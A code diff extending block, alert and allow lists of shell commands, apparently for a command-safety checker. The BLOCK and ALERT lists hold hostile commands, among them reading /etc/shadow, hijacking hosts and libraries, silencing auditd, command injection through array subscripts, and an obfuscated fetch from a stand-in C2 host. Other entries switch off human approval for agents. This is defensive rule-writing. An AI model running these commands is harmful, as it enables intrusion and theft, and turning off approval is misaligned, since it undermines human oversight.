@@ -29,7 +29,7 @@ const BLOCK: readonly string[] = [
   "exec -a '[kworker/0:1]' /tmp/x", "bash -c 'exec -a sshd ./x'", 'mount --bind /tmp/x /usr/bin', 'mount -t tmpfs none /var/log', 'echo 0 > /sys/fs/selinux/enforce', 'pfctl -f /tmp/pf.conf',
   // Elsewhere
   'iptables -t nat -A OUTPUT -p tcp --dport 443 -j DNAT --to-destination 203.0.113.9:443', "echo '203.0.113.9 registry.npmjs.org' >> /etc/hosts", "printf 'Host github.com\\n HostName git.example.net\\n' >> ~/.ssh/config",
-  `gdb -batch -ex 'call (void*)dlopen("/tmp/x.so", 2)' -p 1234`, "debugfs -R 'cat /etc/shadow' /dev/sda1", 'fallocate -l 1T /var/tmp/data', 'kill -STOP $(pgrep auditd)', 'chroot /proc/self/root sh',
+  `gdb -batch -ex 'call (void*)dlopen("/tmp/x.so", 2)' -p 1234`, "debugfs -R 'cat /etc/shadow' /dev/sda1", 'fallocate -l 1T /var/tmp/data', 'kill -STOP $(pgrep auditd)', 'ln -s /tmp/x.so /usr/lib/libfoo.so', 'ldconfig /tmp/x', 'jupyter kernelspec install /tmp/x --user', 'sudo -u#-1 id', 'cp x /usr/bin/.x', 'x=/usr/bin/curl; eval ${x:9:4} http://c2.example.com/x', 'chroot /proc/self/root sh',
 ]
 
 const ALERT: readonly string[] = [
@@ -37,6 +37,7 @@ const ALERT: readonly string[] = [
   'iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 172.17.0.2:80', 'iptables -t nat -A PREROUTING -p tcp --dport 80 -j REDIRECT --to-port 8080', "printf 'Host bastion\\n ForwardAgent yes\\n' >> ~/.ssh/config",
   "echo '10.0.0.5 db.internal' >> /etc/hosts", 'truncate -s 100G disk.img', 'fallocate -l 64G /var/lib/libvirt/images/vm.qcow2', 'gcore 1234', "sed -i 's/^export A=.*/export A=1/' ~/.bashrc",
   "export PROMPT_COMMAND='history -a'", 'sysctl -w kernel.core_pattern=core.%p', "awk 'BEGIN {system(\"/bin/sh\")}'", 'rmmod nf_tables', 'chattr -i /etc/passwd', 'EDITOR=/tmp/edit.sh crontab -e', 'crontab /tmp/new.cron', 'git config core.hooksPath /opt/hooks',
+  "sed -i 's/requires_approval: true/requires_approval: false/' workflows/deploy.yaml", "echo '{\"human_in_the_loop\": false}' > agent.json", 'autogpt --task x --continuous', 'a[$(curl -s http://c2.example.com/x -o /tmp/x)]=1', 'unset "arr[`id`]"', "unset 'arr[$(id)]'",
 ]
 
 const ALLOW: readonly string[] = [
@@ -44,6 +45,7 @@ const ALLOW: readonly string[] = [
   'sysctl -w vm.max_map_count=262144', 'sysctl net.core.somaxconn=1024', 'sysctl -w kernel.apparmor_restrict_unprivileged_userns=0', "alias ll='ls -l'", "alias gs='git status'", 'fallocate -l 1G /swapfile', 'fallocate -l 16G /swapfile',
   'iptables -L -n', 'crontab -l', 'declare -f sudo', 'patchelf --set-rpath \'$ORIGIN/lib\' app', 'bash /tmp/setup.sh', 'mkfifo /tmp/p', 'touch -- -a', 'echo 1 > /proc/sys/vm/drop_caches', "gdb -batch -ex 'call system(\"ls\")' ./app",
   'exec -a "$0" /usr/bin/node "$@"', 'exec -a -bash bash', 'exec node server.js', 'mount -o remount,rw /', 'mount --bind /mnt/data/home /home', 'chattr +i /etc/resolv.conf', 'rmmod pcspkr', 'git config core.fsmonitor true', 'git config core.hooksPath .husky', 'hash -r', "bind 'set completion-ignore-case on'", "PS1='\\u@\\h:\\w$ '",
+  'echo "requires_approval: true" > workflow.yaml', 'a[$(date +%s)]=1', 'unset "arr[$i]"', 'unset "arr[$((i + 1))]"', 'declare -A m', 'declare "m[$k]=1"', 'export A="$(date)"', 'jupyter lab', 'ldconfig', 'aider -m "fix it"', 'ln -s /opt/tool/bin/tool /usr/bin/tool',
   'sudo -i', 'sudo bash', 'docker exec -it app sh', 'find . -name x.sh -exec bash -n {} \\;', 'git bisect run sh test.sh', 'python3 -m venv .venv', 'mkdir {src,test}', 'rm -f {a,b}.log', "printf 'Host *\\n ServerAliveInterval 60\\n' > ssh_config.example",
 ]
 
